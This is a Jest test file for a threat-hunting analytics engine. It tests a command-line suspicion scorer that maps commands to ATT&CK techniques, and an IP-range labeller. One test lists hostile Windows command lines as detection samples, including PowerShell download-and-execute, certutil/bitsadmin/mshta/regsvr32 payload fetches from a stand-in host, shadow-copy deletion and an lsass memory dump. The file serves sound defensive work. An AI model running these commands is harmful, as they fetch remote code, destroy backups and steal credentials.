import * as fs from 'node:fs';
import * as path from 'node:path';
import { runAnalytics, type AnalyticsInput, type AnalyticsRequest, type Row } from '../../src/engine/analytics';
import { isKestrelError } from '../../src/model/errors';

const ROOT = path.resolve(__dirname, '../..');
const SAMPLES = path.join(ROOT, 'samples/analytics');
const FIXTURES = path.join(ROOT, 'test/fixtures');
const profiles = { 'suspicious-cmdline': 'suspicious-cmdline', 'ip-enrich': 'ip-enrich' };

type StixObject = Record<string, unknown> & { type: string };

/** One row per distinct object of a type in a STIX 2.0 bundle (as APPLY would hand entities over). */
function entities(bundleFile: string, type: string, key: (o: StixObject) => string, attrs: string[]): Row[] {
  const bundle = JSON.parse(fs.readFileSync(path.join(FIXTURES, bundleFile), 'utf8')) as { objects: { objects?: Record<string, StixObject> }[] };
  const rows = new Map<string, Row>();
  for (const od of bundle.objects) {
    for (const o of Object.values(od.objects ?? {})) {
      if (o.type !== type || rows.has(key(o))) continue;
      const row: Row = { id: `${type}--${rows.size + 1}` };
      for (const a of attrs) if (o[a] !== undefined) row[a] = o[a] as Row[string];
      rows.set(key(o), row);
    }
  }
  return [...rows.values()];
}

function request(uri: string, inputs: AnalyticsInput[], params: Record<string, string> = {}): AnalyticsRequest {
  return { uri, baseDir: SAMPLES, profiles, inputs, params, timeoutMs: 10000 };
}

function byId(rows: Row[]): Map<unknown, Row> {
  return new Map(rows.map((r) => [r.id, r]));
}

describe('samples/analytics/suspicious-cmdline', () => {
  // Every distinct (pid, name, command line) of Kestrel's doctored-1k bundle: 34 processes.
  const rows = entities('doctored-1k.json', 'process', (o) => `${o.pid}|${o.name}|${o.command_line}`, ['pid', 'name', 'command_line'])
    .filter((r) => typeof r.command_line === 'string');
  const procs: AnalyticsInput = { variable: 'procs', entityType: 'process', rows };
  const rowOf = (pid: number, needle: string) => {
    const r = rows.find((x) => x.pid === pid && String(x.command_line).includes(needle));
    if (!r) throw new Error(`no process ${pid} with ${needle}`);
    return r;
  };

  it('scores every process of doctored-1k and shows the two above the default threshold', async () => {
    expect(rows).toHaveLength(34);
    const r = await runAnalytics(request('js://suspicious-cmdline', [procs]));
    const updates = byId(r.updates[0]);
    expect(updates.size).toBe(34);

    // Atomic Red Team T1117 writing a Squiblydoo regsvr32 command into an alternate data stream.
    const squiblydoo = rowOf(6792, 'regsvr32');
    expect(updates.get(squiblydoo.id)).toEqual({
      id: squiblydoo.id,
      x_suspicious_score: 0.9,
      x_techniques: ['T1218.010', 'T1564.004'],
      x_suspicious_rules: ['regsvr32-squiblydoo', 'alternate-data-stream-write'],
    });
    // A process started on another host through WMI.
    const wmicRemote = rowOf(8972, '/node:');
    expect(updates.get(wmicRemote.id)).toMatchObject({ x_suspicious_score: 0.65, x_techniques: ['T1047'] });
    // wmic disk queries (by WD Discovery) are discovery, scored low.
    expect(updates.get(rowOf(8776, 'logicaldisk').id)).toMatchObject({ x_suspicious_score: 0.1, x_techniques: ['T1082'] });
    // Benign: the Task Scheduler's svchost and the GoogleUpdate task.
    expect(updates.get(rowOf(1380, 'netsvcs').id)).toMatchObject({ x_suspicious_score: 0, x_techniques: [], x_suspicious_rules: [] });
    expect(updates.get(rowOf(13044, 'GoogleUpdate').id)).toMatchObject({ x_suspicious_score: 0, x_techniques: [] });

    const scores = r.updates[0].map((u) => u.x_suspicious_score as number);
    expect(scores.filter((s) => s >= 0.5)).toHaveLength(2);
    expect(scores.filter((s) => s === 0.1)).toHaveLength(14);
    expect(scores.filter((s) => s === 0)).toHaveLength(18);

    expect(r.display).toEqual({
      kind: 'table',
      columns: ['variable', 'pid', 'name', 'x_suspicious_score', 'x_techniques', 'command_line'],
      rows: [
        ['procs', 6792, 'cmd.exe', 0.9, ['T1218.010', 'T1564.004'], squiblydoo.command_line],
        ['procs', 8972, 'cmd.exe', 0.65, ['T1047'], wmicRemote.command_line],
      ],
    });
  });

  it('takes the threshold as a parameter', async () => {
    const low = await runAnalytics(request('js://suspicious-cmdline', [procs], { threshold: '0.1' }));
    expect(low.display?.kind === 'table' && low.display.rows.length).toBe(16);
    const high = await runAnalytics(request('js://suspicious-cmdline', [procs], { threshold: '0.95' }));
    expect(high.display?.kind === 'table' && high.display.rows).toEqual([]);
    const bad = await runAnalytics(request('js://suspicious-cmdline', [procs], { threshold: 'high' })).catch((e: unknown) => e);
    expect(isKestrelError(bad) && [bad.code, bad.message]).toEqual([
      'E_ANALYTICS_FAILED', 'analytics js://suspicious-cmdline failed: threshold must be a number from 0 to 1, got "high"',
    ]);
  });

  it('recognises the techniques its rules name', async () => {
    const lines: [string, number, string[]][] = [
      ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 0.8, ['T1027', 'T1059.001', 'T1564.003']],
      ["powershell -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')\"", 0.79, ['T1059.001', 'T1105']],
      ['certutil.exe -urlcache -split -f http://192.0.2.10/a.exe C:\\Users\\Public\\a.exe', 0.7, ['T1105']],
      ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://192.0.2.10/x.sct")', 0.8, ['T1218.011']],
      ['mshta.exe https://192.0.2.10/payload.hta', 0.7, ['T1218.005']],
      ['regsvr32.exe /s /n /u /i:http://192.0.2.10/file.sct scrobj.dll', 0.8, ['T1218.010']],
      ['vssadmin.exe delete shadows /all /quiet', 0.8, ['T1490']],
      ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 0.9, ['T1003.001']],
      ['schtasks /create /tn "Updater" /tr C:\\Users\\Public\\a.exe /sc onlogon', 0.3, ['T1053.005']],
      ['wmic process call create "cmd.exe /c calc.exe"', 0.5, ['T1047']],
      ['bitsadmin /transfer myjob /download /priority high http://192.0.2.10/a.exe C:\\Users\\Public\\a.exe', 0.6, ['T1105', 'T1197']],
      // Carbon Black's IIS check in Kestrel's test_bundle_4: a restricted execution policy is not a bypass.
      ["powershell.exe -ExecutionPolicy Restricted -Command $Res = 0; if((Get-WindowsOptionalFeature -Online -FeatureName IIS-WebServerRole).State -eq 'Enabled') { $Res = 1 }", 0, []],
    ];
    const input: AnalyticsInput = {
      variable: 'p',
      entityType: 'process',
      rows: lines.map(([command_line], i) => ({ id: `process--${i}`, command_line })),
    };
    const r = await runAnalytics(request('js://suspicious-cmdline', [input]));
    expect(r.updates[0].map((u) => [u.x_suspicious_score, u.x_techniques])).toEqual(lines.map(([, s, t]) => [s, t]));
  });

  it('leaves processes without a command line unscored and refuses other entity types', async () => {
    const r = await runAnalytics(request('js://suspicious-cmdline', [{ variable: 'p', entityType: 'process', rows: [{ id: 'process--1', name: 'System', pid: 4 }] }]));
    expect(r.updates).toEqual([[]]);
    const e = await runAnalytics(request('js://suspicious-cmdline', [{ variable: 'ips', entityType: 'ipv4-addr', rows: [] }])).catch((x: unknown) => x);
    expect(isKestrelError(e) && e.message).toBe('analytics js://suspicious-cmdline failed: suspicious-cmdline scores processes, but ips holds ipv4-addr entities');
  });
});

describe('samples/analytics/ip-enrich', () => {
  const addresses = (type: string) =>
    entities('doctored-1k.json', type, (o) => String(o.value), ['value']);
  const v4: AnalyticsInput = { variable: 'ips', entityType: 'ipv4-addr', rows: addresses('ipv4-addr') };
  const v6: AnalyticsInput = { variable: 'ip6s', entityType: 'ipv6-addr', rows: addresses('ipv6-addr') };
  const labelOf = (r: { updates: Row[][] }, input: number, rows: Row[], value: string) => {
    const row = rows.find((x) => x.value === value);
    if (!row) throw new Error(`no address ${value}`);
    return r.updates[input].find((u) => u.id === row.id);
  };

  it('labels the private, loopback, link-local and multicast addresses of doctored-1k and leaves public ones alone', async () => {
    expect([v4.rows.length, v6.rows.length]).toEqual([25, 35]);
    const r = await runAnalytics(request('js://ip-enrich', [v4, v6]));
    const at4 = (value: string) => labelOf(r, 0, v4.rows, value);
    const at6 = (value: string) => labelOf(r, 1, v6.rows, value);
    expect(at4('192.168.1.156')).toMatchObject({ x_org: 'private (RFC 1918)', x_risk: 'low', x_cidr: '192.168.0.0/16' });
    expect(at4('172.16.0.255')).toMatchObject({ x_org: 'private (RFC 1918)', x_cidr: '172.16.0.0/12' });
    expect(at4('127.0.0.1')).toEqual({ id: expect.any(String), x_cidr: '127.0.0.0/8', x_org: 'loopback (RFC 1122)', x_risk: 'none' });
    expect(at4('239.255.255.250')).toMatchObject({ x_org: 'multicast (RFC 5771)' });
    expect(at6('0:0:0:0:0:0:0:1')).toMatchObject({ x_org: 'loopback (RFC 4291)', x_risk: 'none', x_cidr: '::1/128' });
    expect(at6('fe80:0:0:0:5d67:4a8:1e69:54d8')).toMatchObject({ x_org: 'link-local (RFC 4291)', x_cidr: 'fe80::/10' });
    expect(at6('ff02:0:0:0:0:0:1:3')).toMatchObject({ x_org: 'multicast (RFC 4291)' });
    // No range covers public addresses, and nothing is made up for them (e.g. no x_country for private ones).
    for (const ip of ['54.69.219.204', '54.148.155.193', '92.242.140.21', '3.229.145.64', '35.162.80.139']) expect(at4(ip)).toBeUndefined();
    expect(r.updates[0]).toHaveLength(20);
    expect(r.updates[1]).toHaveLength(35);
    expect(r.updates.flat().some((u) => 'x_country' in u)).toBe(false);
    expect(r.display?.kind === 'table' && r.display.rows.find((row) => row[1] === '54.69.219.204')).toEqual(['ips', '54.69.219.204', null, null, null, null]);
  });

  it('covers the documentation, carrier-grade NAT and unique-local ranges, most specific first', async () => {
    const values = ['192.0.2.44', '198.51.100.7', '203.0.113.250', '100.64.12.1', '100.128.0.1', '10.0.0.1', '169.254.169.254', '8.8.8.8', '1.2.3'];
    const input: AnalyticsInput = { variable: 'ips', entityType: 'ipv4-addr', rows: values.map((value, i) => ({ id: `ipv4-addr--${i}`, value })) };
    const six: AnalyticsInput = {
      variable: 'v6', entityType: 'ipv6-addr',
      rows: ['::1', 'fd12:3456:789a::1', '2001:db8::8a2e:370:7334', '::ffff:192.168.0.1', 'fe80::6081:41da:9cd5:7c82%12', '2606:4700::1111'].map((value, i) => ({ id: `ipv6-addr--${i}`, value })),
    };
    const r = await runAnalytics(request('js://ip-enrich', [input, six]));
    const org = (n: number, rows: Row[]) => rows.map((x) => byId(r.updates[n]).get(x.id)?.x_org ?? null);
    expect(org(0, input.rows)).toEqual([
      'documentation TEST-NET-1 (RFC 5737)',
      'documentation TEST-NET-2 (RFC 5737)',
      'documentation TEST-NET-3 (RFC 5737)',
      'carrier-grade NAT shared space (RFC 6598)',
      null,
      'private (RFC 1918)',
      'link-local (RFC 3927)',
      null,
      null,
    ]);
    expect(org(1, six.rows)).toEqual([
      'loopback (RFC 4291)',
      'unique local (RFC 4193)',
      'documentation (RFC 3849)',
      'private (RFC 1918)',
      'link-local (RFC 4291)',
      null,
    ]);
  });

  it('reads another range table given as the file parameter (relative to the huntflow folder)', async () => {
    const ips: AnalyticsInput = { variable: 'ips', entityType: 'ipv4-addr', rows: [...v4.rows, { id: 'ipv4-addr--extra', value: '54.68.0.1' }] };
    const r = await runAnalytics({ ...request('js://ip-enrich', [ips], { file: 'analytics/ranges-test.json' }), baseDir: FIXTURES, profiles: { 'ip-enrich': path.join(SAMPLES, 'ip-enrich') } });
    const at = (value: string) => labelOf(r, 0, ips.rows, value);
    // Longest prefix wins: the /24 inside the /14.
    expect(at('54.69.219.204')).toMatchObject({ x_org: 'Example Cloud West, customer block (test label)', x_country: 'US', x_risk: 'medium', x_cidr: '54.69.219.0/24' });
    expect(at('54.68.0.1')).toMatchObject({ x_org: 'Example Cloud West (test label)', x_cidr: '54.68.0.0/14' });
    expect(at('92.242.140.21')).toMatchObject({ x_org: 'Example ISP (test label)', x_country: 'GB', x_risk: 'high' });
    expect(at('192.168.1.1')).toEqual({ id: expect.any(String), x_org: 'office LAN (test label)', x_risk: 'low', x_cidr: '192.168.0.0/16' });
    expect(at('127.0.0.1')).toBeUndefined(); // the default table is replaced, not extended
  });

  it('fails clearly on a missing range file and on the wrong entity type', async () => {
    const missing = await runAnalytics(request('js://ip-enrich', [v4], { file: 'no-such-ranges.csv' })).catch((e: unknown) => e);
    expect(isKestrelError(missing) && missing.code).toBe('E_ANALYTICS_FAILED');
    expect(isKestrelError(missing) && missing.message).toBe(`analytics js://ip-enrich failed: cannot read ranges ${path.join(SAMPLES, 'no-such-ranges.csv')}: no such file`);
    const procs = await runAnalytics(request('js://ip-enrich', [{ variable: 'procs', entityType: 'process', rows: [] }])).catch((e: unknown) => e);
    expect(isKestrelError(procs) && procs.message).toContain('ip-enrich labels ipv4-addr and ipv6-addr entities, but procs holds process entities');
  });
});
